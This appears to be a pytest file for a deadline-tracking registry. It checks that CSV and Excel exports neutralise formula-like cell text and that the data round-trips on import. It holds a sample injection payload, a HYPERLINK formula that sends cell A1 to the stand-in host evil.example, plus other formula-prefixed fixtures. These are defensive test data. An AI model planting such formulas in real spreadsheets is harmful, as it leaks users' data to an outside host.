"""Registry text that looks like a formula is exported as text and imported back exactly."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from registry_files import NOW, csv_bytes, project_rows

import factories as f
from deadline_watch.board.report_files import render
from deadline_watch.board.report_tables import weekly_report
from deadline_watch.core.db import transaction
from deadline_watch.registry import ImportOptions, export_path, import_bytes

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def hostile_rows():
    return project_rows(project_name=LINK, unit="+新经济发展局", note="@SUM(1+1)", co_units="-协办单位") \
        + project_rows("GX-2", project_name="''=已加引号", note="-5")  # stored as '=已加引号


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_neutralises_formulas_and_import_round_trips(sessions, tmp_path, suffix):
    report = import_bytes(sessions, filename="r.csv", content=csv_bytes(hostile_rows()), now=NOW)
    assert report.errors == [] and report.written
    path = tmp_path / f"export{suffix}"
    with sessions() as session:
        assert export_path(session, path) == 8
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        assert rows[1][1] == "'" + LINK and rows[1][2] == "'+新经济发展局" and rows[5][1] == "''=已加引号"
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    else:
        sheet = load_workbook(path).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in cells)
        assert sheet["B2"].value == LINK and sheet["B2"].data_type == "s"
    again = import_bytes(sessions, filename=path.name, content=path.read_bytes(), now=NOW,
                         options=ImportOptions(dry_run=True))
    assert again.errors == []
    assert (again.projects_updated, again.milestones_updated, again.persons_updated) == (0, 0, 0)
    assert again.projects_unchanged == 2 and again.milestones_unchanged == 8


def test_reports_write_formula_like_text_as_text(sessions, settings):
    from datetime import date

    with transaction(sessions) as s:
        f.milestone(s, date(2026, 11, 18), project_=f.project(s, "F-1", name=LINK), name="@x")
    with transaction(sessions) as s:
        report = weekly_report(s, at=date(2026, 11, 23), settings=settings)
    text = render(report, "csv").decode("utf-8-sig")
    assert "'" + LINK.replace('"', '""') in text and "'@x" in text
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(text)) for cell in row)
    workbook = load_workbook(io.BytesIO(render(report, "xlsx")))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert LINK in [cell.value for cell in cells]
    assert not any(cell.data_type == "f" for cell in cells)
